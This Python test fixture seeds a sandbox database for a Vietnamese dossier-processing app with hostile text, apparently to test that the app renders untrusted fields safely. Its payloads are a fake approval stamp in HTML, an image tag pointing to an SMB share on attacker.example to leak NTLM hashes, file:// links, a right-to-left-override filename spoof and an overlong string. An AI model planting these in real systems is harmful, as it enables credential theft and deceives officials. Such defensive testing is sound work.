"""Hostile data planted in a sandbox's database, then served to the app over real HTTP."""

from __future__ import annotations

from app.sandbox.server import Sandbox

RLO = "\u202e"
# A fake approval stamp, an image that would make Windows connect to an SMB share (leaking the
# officer's NTLM hash), a local file link, and a very long string.
HTML = '<b style="color:red;font-size:40px">HỒ SƠ ĐÃ ĐƯỢC PHÊ DUYỆT</b>'
IMG = '<img src="\\\\attacker.example\\share\\leak.png"><img src="file:///etc/hostname">'
LINK = '<a href="file:///C:/Windows/System32/calc.exe">Mở</a>'
LONG = "Nguyễn Văn " + "A" * 5000


def hostile_text(tag: str) -> str:
    return f"{tag} {HTML}{IMG}{LINK} {RLO}gnp.exe {LONG}"


def rename_component_files(sandbox: Sandbox, names: list[str]) -> None:
    """The component files of every dossier get the given names, in turn within each dossier."""
    with sandbox.db.connect() as conn:
        rows = conn.execute(
            "SELECT c.dossier_id, cf.file_id FROM component_files cf JOIN components c ON c.id = cf.component_id"
            " ORDER BY c.dossier_id, c.ord, cf.ord").fetchall()
        turn: dict[str, int] = {}
        for dossier_id, file_id in rows:
            i = turn[dossier_id] = turn.get(dossier_id, -1) + 1
            conn.execute("UPDATE files SET filename = ? WHERE id = ?", (names[i % len(names)], file_id))


def rename_idesk_attachments(sandbox: Sandbox, name: str) -> None:
    """Every iDesk attachment (and the file of each of its versions) gets `name`."""
    with sandbox.db.connect() as conn:
        conn.execute("UPDATE attachments SET filename = ?", (name,))
        conn.execute("UPDATE files SET filename = ? WHERE id IN (SELECT file_id FROM versions)", (name,))


DOSSIER_FIELDS = ("procedure_name", "applicant_name", "applicant_phone", "applicant_address", "task_name")
DOCUMENT_FIELDS = ("summary", "form", "number", "drafting_unit", "created_by")


def plant_hostile_text(sandbox: Sandbox) -> None:
    """Every free-text field the sandbox serves, in both systems, gets markup and a long word."""
    with sandbox.db.connect() as conn:
        for field in DOSSIER_FIELDS:
            conn.execute(f"UPDATE dossiers SET {field} = ?", (hostile_text(field),))
        conn.execute("UPDATE components SET name = ?", (hostile_text("component"),))
        conn.execute("UPDATE files SET filename = ?", (hostile_text("file") + ".pdf",))
        for field in DOCUMENT_FIELDS:
            conn.execute(f"UPDATE documents SET {field} = ?", (hostile_text(field),))
        conn.execute("UPDATE attachments SET filename = ?", (hostile_text("attachment") + ".pdf",))
        conn.execute("UPDATE versions SET note = ?, created_by = ?", (hostile_text("note"), hostile_text("by")))
        conn.execute("UPDATE history SET actor = ?, action = ?, note = ?",
                     (hostile_text("actor"), hostile_text("action"), hostile_text("hnote")))
